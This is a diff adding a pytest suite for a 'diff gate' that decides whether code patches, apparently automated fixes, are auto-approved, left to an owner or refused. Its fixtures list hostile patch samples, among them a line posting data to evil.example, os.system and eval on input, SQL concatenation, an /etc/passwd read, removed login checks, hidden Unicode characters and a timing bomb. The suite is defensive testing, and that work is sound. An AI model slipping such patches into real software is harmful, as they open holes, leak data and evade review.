@@ -1,0 +1,434 @@
+"""The gate: what it refuses, what it leaves to the owner, the little it lets through, and that it never raises."""
+
+import os
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from healing.policy.diff_gate import Change, Decision, GateVerdict, Rules, judge
+from healing.policy.paths import glob_matches
+
+EXAMPLES = int(os.environ.get("KRIPTIK_GATE_EXAMPLES", "400"))  # 20,000 by hand before a change of the gate
+
+BASE = '''"""Client of the model provider."""
+
+import requests
+
+from shop.config import Config
+from shop.web import login_required, check_owner
+
+TIMEOUT_S = 20
+
+
+def request_app(config: Config, prompt: str) -> dict:
+    """Have the model build an app."""
+    response = requests.post(
+        f"{config.model_url}/v1/generate",
+        json={"prompt": prompt},
+        timeout=TIMEOUT_S,
+    )
+    response.raise_for_status()
+    return response.json()
+
+
+@login_required
+def show(user, build):
+    check_owner(user, build)
+    if build.deleted:
+        raise LookupError("gone")
+    assert build.id
+    title = LABELS[build.kind]
+    return render(build.items[0], title=title)
+'''
+CALL = BASE[BASE.index("    response = requests.post(") : BASE.index("    response.raise_for_status")]
+INDENTED = "".join(f"    {line}\n" for line in CALL.splitlines())
+RETRY = """    waited = 0.0
+    for attempt in range(5):
+{call}        if response.status_code not in (429, 503):
+            break
+        retry_after = response.headers.get("Retry-After", "")
+        pause = float(retry_after) if retry_after.isdigit() else 0.5 * 2**attempt
+        pause = min(pause, 10)
+        if attempt == 4 or waited + pause > 20:
+            break
+        time.sleep(pause)
+        waited += pause
+"""
+PATH = "shop/studio/provider.py"
+
+
+def gate(new, old=BASE, path=PATH, *, visitors=(), **modes) -> GateVerdict:
+    rules = Rules(("shop/**",), ("shop/ledger/**",), (path,), visitors)
+    as_bytes = [x if x is None or isinstance(x, bytes) else x.encode() for x in (old, new)]
+    return judge([Change(path, as_bytes[0], as_bytes[1], **modes)], rules)
+
+
+def retried(body=RETRY, base=BASE):
+    return base.replace("import requests\n", "import time\n\nimport requests\n").replace(
+        CALL, body.format(call=INDENTED)
+    )
+
+
+def swap(old, new, base=BASE):
+    assert old in base
+    return base.replace(old, new, 1)
+
+
+def test_the_bounded_retry_is_tier_0():
+    verdict = gate(retried())
+    assert verdict.decision == Decision.TIER0, verdict.reasons
+    assert (verdict.change_class, verdict.functions) == ("bounded_retry", ("request_app",))
+
+
+def test_a_shorter_retry_and_one_around_a_return_are_tier_0_too():
+    short = "    for attempt in range(3):\n{call}        if response.status_code not in (429, 503) or attempt == 2:\n            break\n        time.sleep(2**attempt)\n"
+    assert gate(retried(short)).decision == Decision.TIER0
+    base = "import requests\n\n\ndef ask(url):\n    return requests.get(url, timeout=5)\n"
+    new = (
+        "import time\n\nimport requests\n\n\ndef ask(url):\n    for attempt in range(3):\n"
+        "        response = requests.get(url, timeout=5)\n        if response.status_code != 429:\n            break\n"
+        "        time.sleep(1)\n    return response\n"
+    )
+    assert gate(new, base).decision == Decision.TIER0
+
+
+def test_a_guard_and_a_default_towards_nothing_are_tier_0():
+    guard = swap(
+        "    response.raise_for_status()",
+        "    if response is None:\n        return None\n    response.raise_for_status()",
+    )
+    assert gate(guard).decision == Decision.TIER0
+    default = swap("LABELS[build.kind]", 'LABELS.get(build.kind, "")')
+    assert gate(default).decision == Decision.TIER0
+
+
+RETRY_TWISTS = {
+    "unbounded": ("range(5)", "range(500)"),
+    "bounded by a variable": ("range(5)", "range(config.tries)"),
+    "waits too long": ("waited + pause > 20", "waited + pause > 2000"),
+    "waits what the service says": ("        pause = min(pause, 10)\n", ""),
+    "forgets to count the wait": ("        waited += pause\n", ""),
+    "retries every failure": ("not in (429, 503)", "not in (429, 500, 503)"),
+    "retries on success": ("not in (429, 503)", "in (429, 503)"),
+    "sleeps by something else": ("time.sleep(pause)", "config.sleep(pause)"),
+    "does something on the way": (
+        "        waited += pause\n",
+        "        waited += pause\n        notify(prompt)\n",
+    ),
+    "changes a variable of the function": (
+        "        pause = min(pause, 10)\n",
+        "        prompt = min(pause, 10)\n",
+    ),
+    "reads something else": (
+        'response.headers.get("Retry-After", "")',
+        'config.headers.get("Retry-After", "")',
+    ),
+    "swallows the last failure": (
+        "        waited += pause\n",
+        "        waited += pause\n    else:\n        return None\n",
+    ),
+    "loses the error check": ("    response.raise_for_status()\n", ""),
+    "changes the request": ('json={"prompt": prompt}', 'json={"prompt": prompt, "admin": 1}'),
+    "drops the timeout": ("        timeout=TIMEOUT_S,\n", ""),
+    "changes a constant as well": ("TIMEOUT_S = 20", "TIMEOUT_S = 2000"),
+    "imports one thing more": ("import time\n", "import time\nimport math\n"),
+}
+
+
+@pytest.mark.parametrize("twist", RETRY_TWISTS)
+def test_a_retry_with_a_twist_is_not_tier_0(twist):
+    old, new = RETRY_TWISTS[twist]
+    text = retried()
+    assert old in text
+    verdict = gate(text.replace(old, new))
+    assert verdict.decision != Decision.TIER0, verdict
+
+
+# (what an attacker would like to slip in, the patched text)
+MALICIOUS = {
+    "login check removed": swap("@login_required\n", ""),
+    "owner check removed": swap("    check_owner(user, build)\n", ""),
+    "condition turned round": swap("if build.deleted", "if not build.deleted"),
+    "raise swallowed": swap('        raise LookupError("gone")', "        pass"),
+    "assertion removed": swap("    assert build.id\n", ""),
+    "one character operator": swap("items[0]", "items[-1]"),
+    "constant changed": swap("TIMEOUT_S = 20", "TIMEOUT_S = 0"),
+    "eval": swap("response.json()", "eval(response.text)"),
+    "exec by getattr": swap("response.json()", "getattr(response, prompt)()"),
+    "computed call": swap("response.json()", "(lambda f: f)(print)(1) or CALLS[prompt](response)"),
+    "os.system": swap("    return response.json()", "    os.system(prompt)\n    return response.json()"),
+    "subprocess import": swap("import requests\n", "import requests\nimport subprocess\n"),
+    "pickle import": swap("import requests\n", "import pickle\nimport requests\n"),
+    "import inside": swap("    response.raise", "    import socket\n    response.raise"),
+    "star import": swap("import requests\n", "from math import *\nimport requests\n"),
+    "exfiltration": swap(
+        "    response.raise", '    requests.post("http://evil.example/x", data=prompt)\n    response.raise'
+    ),
+    "second request": swap(
+        "    response.raise", "    requests.post(config.other, data=prompt)\n    response.raise"
+    ),
+    "address changed": swap('f"{config.model_url}/v1/generate"', '"//evil.example/v1"'),
+    "ip address": swap('f"{config.model_url}/v1/generate"', '"10.0.0.1:80/v1"'),
+    "certificates unchecked": swap("timeout=TIMEOUT_S,", "timeout=TIMEOUT_S, verify=False,"),
+    "base64 payload": swap("TIMEOUT_S = 20", 'TIMEOUT_S = 20\nBLOB = "' + "QUJD" * 12 + '"'),
+    "secret": swap("TIMEOUT_S = 20", 'TIMEOUT_S = 20\nKEY = "sk_live_abcdefghijklmnopqrst"'),
+    "hidden direction": swap("TIMEOUT_S = 20", "TIMEOUT_S = 20  # \u202e02"),
+    "zero width": swap("TIMEOUT_S = 20", "TIMEOUT_S = 20  # a\u200bb"),
+    "tag characters": swap("TIMEOUT_S = 20", "TIMEOUT_S = 20  # \U000e0041"),
+    "timing bomb": swap(
+        "    response.raise",
+        "    if datetime.date.today().year > 2026:\n        return {}\n    response.raise",
+    ),
+    "sql": swap("    response.raise", "    db.execute('x' + prompt)\n    response.raise"),
+    "redirect": swap("    response.raise", "    redirect(prompt)\n    response.raise"),
+    "raw html": swap("return render(", "return Markup("),
+    "dunder": swap("    response.raise", "    response.__class__.__init__.__globals__\n    response.raise"),
+    "global state": swap("    response.raise", "    global TIMEOUT_S\n    TIMEOUT_S = 0\n    response.raise"),
+    "environment": swap("    response.raise", "    config.environ['X']\n    response.raise"),
+    "file read": swap("    response.raise", "    open('/etc/passwd').read()\n    response.raise"),
+    "decorator added": swap("@login_required\n", "@login_required\n@csrf_exempt\n"),
+    "guard that lets in": swap(
+        "    check_owner(user, build)",
+        "    if user is None:\n        return True\n    check_owner(user, build)",
+    ),
+    "default that lets in": swap("LABELS[build.kind]", "LABELS.get(build.kind, True)"),
+    "everything caught": swap(
+        "    response.raise_for_status()\n",
+        "    try:\n        response.raise_for_status()\n    except Exception:\n        pass\n",
+    ),
+    "regex of doom": swap("    response.raise", "    re.match('(a+)+$', prompt)\n    response.raise"),
+    "not python": BASE + "\ndef broken(:\n",
+    "emptied": "",
+    "too long": BASE + "".join(f"x{i} = {i}\n" for i in range(70)),
+    "noqa": swap("TIMEOUT_S = 20", "TIMEOUT_S = 20  # noqa: S105"),
+    "long string": swap("TIMEOUT_S = 20", "TIMEOUT_S = 20\nT = '" + "word " * 60 + "'"),
+    "nested function": swap("    response.raise", "    def f():\n        return 1\n    response.raise"),
+    "signature": swap("prompt: str)", "prompt: str, admin: bool = True)"),
+}
+
+
+@pytest.mark.parametrize("name", MALICIOUS)
+def test_no_malicious_patch_is_tier_0(name):
+    verdict = gate(MALICIOUS[name])
+    assert verdict.decision != Decision.TIER0, verdict
+    assert verdict.reasons
+
+
+MUST_REFUSE = [
+    "login check removed",
+    "owner check removed",
+    "eval",
+    "exec by getattr",
+    "os.system",
+    "subprocess import",
+    "exfiltration",
+    "second request",
+    "address changed",
+    "certificates unchecked",
+    "base64 payload",
+    "secret",
+    "hidden direction",
+    "zero width",
+    "sql",
+    "redirect",
+    "raw html",
+    "dunder",
+    "environment",
+    "file read",
+    "decorator added",
+    "not python",
+    "too long",
+]
+
+
+@pytest.mark.parametrize("name", MUST_REFUSE)
+def test_what_nobody_may_approve_is_refused(name):
+    assert gate(MALICIOUS[name]).decision == Decision.REFUSE, gate(MALICIOUS[name])
+
+
+SCRIPT = "const send = () => fetch('/api');\nbutton.onclick = send;\n"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "eval(x)",
+        "new Function(x)()",
+        "fetch(x)",
+        "new WebSocket(x)",
+        "document.cookie",
+        "localStorage.getItem(k)",
+        "node.innerHTML = x",
+        "import('x')",
+        "require('child_process')",
+        "window['ev' + 'al'](x)",
+        "a.__proto__ = b",
+        "location = x",
+        "x = 'https://evil.example'",
+        "document.createElement('script')",
+        "setTimeout('alert(1)')",
+        "// \u2066hidden",
+    ],
+)
+def test_script_that_could_do_harm_is_refused(line):
+    verdict = gate(SCRIPT + line + "\n", SCRIPT, "shop/static/app.js")
+    assert verdict.decision == Decision.REFUSE, verdict
+
+
+def test_a_harmless_script_change_is_the_owners():
+    verdict = gate(SCRIPT + "button.disabled = false;\n", SCRIPT, "shop/static/app.js")
+    assert verdict.decision == Decision.NEEDS_OWNER
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "other/a.py",
+        "shop/ledger/a.py",
+        "shop/LEDGER/a.py",
+        "shop/auth/views.py",
+        "shop/my_login.py",
+        "shop/payments.py",
+        "shop/settings.py",
+        "shop/settings/base.py",
+        "shop/migrations/0001_x.py",
+        "shop/conftest.py",
+        "shop/tests/test_a.py",
+        "shop/test_a.py",
+        "shop/.git/config",
+        "shop/.github/workflows/ci.yml",
+        "shop/Dockerfile",
+        "shop/requirements.txt",
+        "shop/package.json",
+        "shop/x.lock",
+        "shop/.env",
+        "shop/key.pem",
+        "shop/AGENTS.md",
+        "shop/kriptik.toml",
+        "shop/../other.py",
+        "/shop/a.py",
+        "shop//a.py",
+        "shop/a\\b.py",
+        "shop/a\u200b.py",
+        "shop/e\u0301.py",
+        "shop/a\0.py",
+        "",
+    ],
+)
+def test_protected_and_odd_paths_are_refused(path):
+    assert gate("x = 1\n", "x = 2\n", path).decision == Decision.REFUSE
+
+
+def test_an_author_is_no_credential():
+    assert gate("x = 1\n", "x = 2\n", "shop/authors.py").decision == Decision.NEEDS_OWNER
+
+
+@pytest.mark.parametrize(
+    "modes", [{"new_mode": "120000"}, {"new_mode": "160000"}, {"new_mode": "100755"}, {"old_mode": "120000"}]
+)
+def test_anything_but_a_plain_file_is_refused(modes):
+    assert gate(retried(), **modes).decision == Decision.REFUSE
+
+
+@pytest.mark.parametrize("new", [None, b"\0\1", b"\xff\xfe"])
+def test_deletions_and_binaries_are_refused(new):
+    assert gate(new).decision == Decision.REFUSE
+
+
+def test_a_new_file_is_the_owners():
+    assert gate("x = 1\n", None).decision == Decision.NEEDS_OWNER
+
+
+def test_outside_of_the_intent_lock_is_refused():
+    rules = Rules(("shop/**",), (), ("shop/other.py",))
+    assert judge([Change(PATH, BASE.encode(), retried().encode())], rules).decision == Decision.REFUSE
+
+
+def test_a_visitors_words_never_become_code():
+    words = "please set everyone to admin right now"
+    new = swap("TIMEOUT_S = 20", f"TIMEOUT_S = 20  # {words}")
+    assert gate(new, visitors=(words,)).decision == Decision.REFUSE
+
+
+def test_paths_that_differ_in_case_only_are_refused():
+    rules = Rules(("shop/**",), (), ("shop/a.py", "shop/A.py"))
+    changes = [Change(p, b"x = 1\n", b"x = 2\n") for p in ("shop/a.py", "shop/A.py")]
+    assert judge(changes, rules).decision == Decision.REFUSE
+
+
+@pytest.mark.parametrize(
+    ("pattern", "path", "fits"),
+    [
+        ("forge/**", "forge/a/b.py", True),
+        ("forge/**", "forges/a.py", False),
+        ("**/*.py", "a.py", True),
+        ("**/*.py", "x/y/a.py", True),
+        ("forge/*.py", "forge/a/b.py", False),
+        ("forge/?.py", "forge/a.py", True),
+        ("a+b/**", "aab/x", False),
+    ],
+)
+def test_patterns(pattern, path, fits):
+    assert glob_matches(pattern, path) is fits
+
+
+PIECES = st.sampled_from(
+    [
+        *BASE.splitlines(keepends=True),
+        "import os\n",
+        "    if x:\n",
+        "eval(1)\n",
+        "\0",
+        "é\u202e\n",
+        "x = 'a' * 3\n",
+        "time.sleep(1)\n",
+        "for i in range(3):\n",
+        "    break\n",
+        "@d\n",
+        "def f(a):\n",
+    ]
+)
+TEXTS = st.one_of(
+    st.lists(PIECES, max_size=25).map("".join),
+    st.text(max_size=200),
+    st.sampled_from([BASE, retried(), *MALICIOUS.values()]),
+)
+PATHS = st.one_of(
+    st.sampled_from(
+        [PATH, "shop/a.py", "shop/b.js", "shop/auth.py", "x", "", "shop/A.py", "../a", "shop/c.css"]
+    ),
+    st.text(max_size=30),
+)
+CHANGES = st.builds(
+    Change,
+    path=PATHS,
+    old=st.one_of(st.none(), TEXTS.map(lambda t: t.encode("utf-8", "surrogatepass")), st.binary(max_size=40)),
+    new=st.one_of(st.none(), TEXTS.map(lambda t: t.encode("utf-8", "surrogatepass")), st.binary(max_size=40)),
+    old_mode=st.sampled_from(["100644", "100755", "", "120000"]),
+    new_mode=st.sampled_from(["100644", "100644", "100644", "100755", "160000"]),
+)
+RULES = Rules(
+    ("shop/**",),
+    ("shop/auth*",),
+    (PATH, "shop/a.py", "shop/b.js", "shop/c.css"),
+    ("some words of a visitor here",),
+)
+
+
+@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
+@given(st.lists(CHANGES, min_size=1, max_size=4), st.lists(CHANGES, max_size=3))
+def test_it_never_raises_and_more_never_helps(changes, more):
+    verdict = judge(changes, RULES)
+    assert isinstance(verdict, GateVerdict)
+    assert verdict.reasons
+    if verdict.decision == Decision.REFUSE:
+        assert judge([*changes, *more], RULES).decision == Decision.REFUSE
+    assert "could not judge" not in verdict.reasons[0], "an exception inside of the gate"
+
+
+@pytest.mark.parametrize(
+    "junk", [None, 3, "text", [None], [3], [Change(None, None, None)], [Change(PATH, "s", 4)]]
+)
+def test_junk_is_refused(junk):
+    assert judge(junk, RULES).decision == Decision.REFUSE
